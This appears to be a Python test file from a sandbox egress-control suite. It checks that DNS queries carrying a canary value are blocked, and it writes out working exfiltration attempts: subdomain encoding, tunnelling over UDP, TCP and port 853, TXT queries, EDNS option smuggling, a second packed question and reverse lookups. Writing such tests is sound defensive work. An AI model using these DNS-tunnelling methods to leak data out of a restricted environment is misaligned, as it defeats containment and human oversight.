"""Data in questions for names: none of them may be passed on, allowed or not."""

import socket

from table import API, DENIED, RESOLVER, REFUSED, Word, ask, ask_stream, connect, listen_for, way

TXT = 16
OTHER_SERVER = "11.20.9.9"
NONE = "NXDOMAIN NODATA REFUSED NOTIMP FORMERR"


@way("name-denied", "a name that is not allowed", "missing")
def _(canary):
    socket.getaddrinfo(f"{canary}.{DENIED}", 443)


@way("name-below-allowed", "a name below an allowed one", "missing")
def _(canary):
    socket.getaddrinfo(f"{canary}.{API}", 443)


@way("name-beside-wildcard", "a name that only ends like a wildcard's", "missing")
def _(canary):
    socket.getaddrinfo(f"{canary}wild.ground.test", 443)


@way("tunnel-udp", "a question to a name server of its own choice", NONE)
def _(canary):
    ask(RESOLVER, f"{canary}.tunnel.example")


@way("tunnel-other-server", "the same to an address that is none", NONE)
def _(canary):
    ask(OTHER_SERVER, f"{canary}.tunnel.example")


@way("tunnel-tcp", "the same over TCP", NONE)
def _(canary):
    ask_stream(RESOLVER, f"{canary}.tunnel.example")


@way("tunnel-tls", "the same over port 853", REFUSED)
def _(canary):
    with connect(RESOLVER, 853) as sock:
        sock.sendall(canary.encode())
        listen_for(sock)


@way("tunnel-text", "TXT below an allowed name", NONE)
def _(canary):
    ask(RESOLVER, f"{canary}.{API}", TXT)


@way("tunnel-text-wildcard", "TXT below a wildcard, which never asks outside", NONE)
def _(canary):
    ask(RESOLVER, f"{canary}.wild.ground.test", TXT)


@way("tunnel-long", "a name as long as names may be", NONE)
def _(canary):
    ask(RESOLVER, ".".join([canary] + ["x" * 50] * 3) + ".tunnel.example")


@way("tunnel-option", "data in an EDNS option, with an allowed name", "NODATA")
def _(canary):
    # COOKIE and others are for whoever answers; here nobody outside may see them.
    data = canary.encode()
    option = (65001).to_bytes(2, "big") + len(data).to_bytes(2, "big") + data
    record = b"\0" + (41).to_bytes(2, "big") + (1232).to_bytes(2, "big") + bytes(4)
    ask(RESOLVER, API, TXT, extra=record + len(option).to_bytes(2, "big") + option, additional=1)


@way("tunnel-update", "data in a second question", NONE + " timeout")
def _(canary):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.connect((RESOLVER, 53))
        label = canary.encode()
        question = bytes([len(label)]) + label + b"\x06tunnel\x07example\0\0\1\0\1"
        sock.send(b"\x42\x43\x01\0\0\2\0\0\0\0\0\0\x06tunnel\x07example\0\0\1\0\1" + question)
        answer = sock.recv(65535)
        code = answer[3] & 15
        if code or not int.from_bytes(answer[6:8], "big"):
            raise Word({1: "FORMERR", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}.get(code, "NODATA"))


@way("reverse", "data in a reverse look-up", NONE, unseen=True)
def _(canary):
    # The canary as nibbles of an address.
    nibbles = ".".join(canary.encode().hex()[:32].rjust(32, "0"))
    ask(RESOLVER, f"{nibbles}.ip6.arpa", TXT)
